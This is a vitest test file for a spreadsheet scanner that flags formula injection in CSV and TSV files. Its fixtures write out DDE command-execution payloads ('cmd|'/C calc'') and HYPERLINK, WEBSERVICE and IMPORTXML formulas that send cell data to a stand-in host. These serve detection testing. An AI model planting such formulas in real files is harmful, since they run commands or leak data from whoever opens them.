import { describe, expect, it } from 'vitest';
import { alarms, findingsOf, textFile } from '../testing/findings-of.ts';
import { spreadsheets } from './index.ts';

const judge = async (name: string, text: string): Promise<string[]> => alarms(await findingsOf(spreadsheets, [textFile(name, text)]));

describe('tables', () => {
  it.each([
    ['a.csv', "id,text\n1,=cmd|'/C calc'!A0\n", 'high'],
    ['a.csv', "id;text\n1;-2+3+cmd|' /C calc'!D2\n", 'high'],
    ['a.csv', 'id,text\n1,"+DDE(""cmd"";""/C calc"";""x"")"\n', 'high'],
    ['a.csv', 'id,text\n1,"=HYPERLINK(""https://host.example/?x=""&A1,""Open"")"\n', 'medium'],
    ['a.csv', 'a\n=WEBSERVICE("https://host.example/?"&A2)\n', 'medium'],
    ['a.tsv', 'a\tb\n1\t=IMPORTXML("https://host.example";"//a")\n', 'medium'],
  ])('report formulas that run in %s: %j', async (name, text, severity) => {
    expect(await judge(name, text)).toEqual([`${severity} ASY-EXE-013`]);
  });

  it.each([
    ['a.csv', 'id,delta,text\n1,-5.2,a = b\n2,+3,"=> next"\n3,-0.1,"== header =="\n4,,@user said hi\n5,=SUM(A1:A2),-- dash\n'],
    ['a.csv', 'prompt\n"I will write =HYPERLINK(""x"") and you reply"\nrun cmd | findstr x\nhttps://host.example/?a=IMAGE(1)\n'],
    ['a.txt', "=cmd|'/C calc'!A0"],
  ])('leave alone %s: %j', async (name, text) => {
    expect(await judge(name, text)).toEqual([]);
  });
});
